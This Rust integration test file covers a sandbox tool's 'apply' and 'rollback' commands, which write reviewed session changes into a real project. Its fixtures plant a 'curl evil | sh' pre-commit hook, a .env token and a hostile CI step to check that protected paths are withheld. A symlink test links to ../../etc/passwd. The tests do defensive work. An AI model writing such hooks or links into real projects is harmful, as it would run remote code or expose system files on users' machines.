//! `shadow apply` and `shadow apply --rollback`: the only verbs that write the real project.

use std::os::unix::fs::PermissionsExt;

use shadow_integration_tests::shadow::{
    assert_same_tree, one_line, snapshot, without_git, Project,
};
use shadow_integration_tests::unique;

/// Changes of every type, nothing protected.
const SCRIPT: &str = "echo more >> README.md; echo new > added.txt; rm docs/guide.txt; rm -r src; \
                      chmod 600 run.sh; ln -s README.md link; mkdir -p deep/er; echo x > deep/er/f; \
                      chmod 700 deep; printf 'bin\\000ary' > blob.bin; \
                      rm -r docs; echo now-a-file > docs";

#[test]
fn apply_all_makes_the_project_what_the_session_saw() {
    let p = Project::new("apply-all");
    let want = snapshot(&p.replay(SCRIPT));
    p.session(SCRIPT);
    let out = p.ok(&["apply", "--all", "--yes"]);
    assert!(out.stdout.contains("applied   README.md\n"), "{out}");
    assert_same_tree("project after apply --all", &want, &p.snapshot());
    // Nothing left to apply: the session now matches the project.
    let out = p.ok(&["diff", "--name-status"]);
    assert_eq!(out.stdout, "", "{out}");
}

#[test]
fn apply_without_yes_and_without_a_tty_refuses() {
    let p = Project::new("apply-noyes");
    let before = p.snapshot();
    p.session(SCRIPT);
    let out = p.sh(&["apply", "--all"]);
    assert_ne!(out.code(), Some(0), "{out}");
    let line = one_line(&out);
    assert!(line.contains("--yes"), "{line}");
    assert!(line.contains("not on a terminal"), "{line}");
    assert_same_tree("project after refused apply", &before, &p.snapshot());
    // Without --all, PATHS or a review there is nothing selected.
    let out = p.sh(&["apply", "--yes"]);
    assert_ne!(out.code(), Some(0), "{out}");
    assert!(one_line(&out).contains("shadow review"), "{out}");
    assert_same_tree(
        "project after apply without selection",
        &before,
        &p.snapshot(),
    );
}

const PROTECTED: &str = "mkdir -p .git/hooks .github/workflows; echo 'curl evil | sh' > .git/hooks/pre-commit; \
                         chmod 755 .git/hooks/pre-commit; echo TOKEN=x > .env; echo 'run: evil' > .github/workflows/ci.yml; \
                         echo ok >> README.md";

#[test]
fn protected_paths_need_include_protected() {
    let p = Project::new("apply-protected");
    p.session(PROTECTED);
    let ns = p.ok(&["diff", "--name-status"]);
    assert_eq!(
        ns.stdout,
        "A\t.env\nA\t.git/hooks/pre-commit\nA\t.github/workflows/ci.yml\nM\tREADME.md\n"
    );
    let out = p.ok(&["apply", "--all", "--yes"]);
    for path in [".env", ".git/hooks/pre-commit", ".github/workflows/ci.yml"] {
        assert!(
            out.stdout.contains(&format!(
                "protected {path} (not applied; --include-protected to apply)"
            )),
            "{out}"
        );
        assert!(!p.path(path).exists(), "{path} applied by --all");
    }
    assert_eq!(p.read("README.md"), "# demo\n\nA small project.\nok\n");

    let out = p.ok(&["apply", "--all", "--yes", "--include-protected"]);
    assert!(out.stdout.contains("applied   .env\n"), "{out}");
    assert_eq!(p.read(".env"), "TOKEN=x\n");
    assert_eq!(p.read(".git/hooks/pre-commit"), "curl evil | sh\n");
    assert_eq!(
        std::fs::metadata(p.path(".git/hooks/pre-commit"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o755
    );
    assert_eq!(p.read(".github/workflows/ci.yml"), "run: evil\n");
}

#[test]
fn base_drift_is_refused_unless_force() {
    let p = Project::new("apply-drift");
    p.session("echo session >> README.md; echo s > other.txt");
    // The user edits the same file on the host meanwhile.
    p.write("README.md", "host edit\n");
    let out = p.sh(&["apply", "--all", "--yes"]);
    assert_ne!(out.code(), Some(0), "{out}");
    let line = one_line(&out);
    assert!(line.contains("README.md"), "drifted file not named: {line}");
    assert!(line.contains("drift"), "{line}");
    assert_eq!(p.read("README.md"), "host edit\n");
    assert!(!p.path("other.txt").exists(), "half applied");

    p.ok(&["apply", "--all", "--yes", "--force"]);
    assert_eq!(p.read("README.md"), "# demo\n\nA small project.\nsession\n");
    assert_eq!(p.read("other.txt"), "s\n");
}

#[test]
fn symlink_escaping_the_project_is_refused_unless_force() {
    let p = Project::new("apply-symlink");
    let outside = format!("/tmp/{}", unique("outside"));
    p.session(&format!(
        "ln -s {outside} link; ln -s ../../etc/passwd rel; echo ok > fine.txt"
    ));
    let before = p.snapshot();
    let out = p.sh(&["apply", "--all", "--yes"]);
    assert_ne!(out.code(), Some(0), "{out}");
    let line = one_line(&out);
    assert!(line.contains("outside the project"), "{line}");
    assert_same_tree("project after refused apply", &before, &p.snapshot());

    p.ok(&["apply", "--all", "--yes", "--force"]);
    assert_eq!(
        std::fs::read_link(p.path("link")).unwrap().to_str(),
        Some(outside.as_str())
    );
    assert_eq!(p.read("fine.txt"), "ok\n");
    // Nothing was written through it.
    assert!(!std::path::Path::new(&outside).exists());
}

#[test]
fn apply_only_the_paths_given() {
    let p = Project::new("apply-paths");
    p.session("echo a >> README.md; echo b > b.txt; rm -r docs; echo c >> src/lib.rs");
    let out = p.ok(&["apply", "--yes", "--", "README.md", "docs"]);
    assert!(out.stdout.contains("applied   README.md\n"), "{out}");
    assert_eq!(p.read("README.md"), "# demo\n\nA small project.\na\n");
    assert!(!p.path("docs").exists());
    assert!(
        !p.path("b.txt").exists(),
        "b.txt applied without being named"
    );
    assert_eq!(
        p.read("src/lib.rs"),
        "pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n"
    );
    // What is left in the session.
    let ns = p.ok(&["diff", "--name-status"]);
    assert_eq!(ns.stdout, "A\tb.txt\nM\tsrc/lib.rs\n");
}

#[test]
fn rollback_restores_byte_for_byte() {
    let p = Project::new("apply-rollback");
    // Unusual modes, a symlink, an empty directory: all must come back.
    p.write_mode("secret.key", "k\n", 0o600);
    std::fs::create_dir(p.path("empty")).unwrap();
    std::fs::set_permissions(p.path("empty"), std::fs::Permissions::from_mode(0o750)).unwrap();
    std::os::unix::fs::symlink("README.md", p.path("readme-link")).unwrap();
    let before = p.snapshot();
    p.session(&format!(
        "{SCRIPT}; rm -r empty secret.key readme-link; ln -s nowhere readme-link"
    ));
    p.ok(&["apply", "--all", "--yes"]);
    assert_ne!(
        without_git(&before),
        without_git(&p.snapshot()),
        "apply changed nothing"
    );
    let out = p.ok(&["apply", "--rollback", "--yes"]);
    assert!(out.stdout.contains("restored  README.md\n"), "{out}");
    assert_same_tree("project after rollback", &before, &p.snapshot());
    // A second rollback has nothing to undo.
    let out = p.sh(&["apply", "--rollback", "--yes"]);
    assert_ne!(out.code(), Some(0), "{out}");
    assert_eq!(
        one_line(&out),
        format!("shadow: nothing to roll back for {}", p.dir.display())
    );
    assert_same_tree("project after second rollback", &before, &p.snapshot());
}

#[test]
fn rollback_with_nothing_applied_is_a_clear_error() {
    let p = Project::new("apply-rollback-none");
    let before = p.snapshot();
    let out = p.sh(&["apply", "--rollback", "--yes"]);
    assert_ne!(out.code(), Some(0), "{out}");
    assert_eq!(
        one_line(&out),
        format!("shadow: nothing to roll back for {}", p.dir.display())
    );
    // Also with a session that was never applied.
    p.session("echo x > x");
    let out = p.sh(&["apply", "--rollback", "--yes"]);
    assert_ne!(out.code(), Some(0), "{out}");
    assert!(one_line(&out).contains("nothing to roll back"), "{out}");
    assert_same_tree("project", &before, &p.snapshot());
}

#[test]
fn rollback_undoes_the_last_apply_first() {
    let p = Project::new("apply-rollback-order");
    let s0 = p.snapshot();
    p.session("echo one > one.txt; echo 1 >> README.md");
    p.ok(&["apply", "--all", "--yes"]);
    let s1 = p.snapshot();
    p.session("echo two > two.txt; echo 2 >> README.md; rm one.txt");
    p.ok(&["apply", "--all", "--yes"]);
    assert_eq!(p.read("README.md"), "# demo\n\nA small project.\n1\n2\n");
    p.ok(&["apply", "--rollback", "--yes"]);
    assert_same_tree("after one rollback", &s1, &p.snapshot());
    p.ok(&["apply", "--rollback", "--yes"]);
    assert_same_tree("after two rollbacks", &s0, &p.snapshot());
}
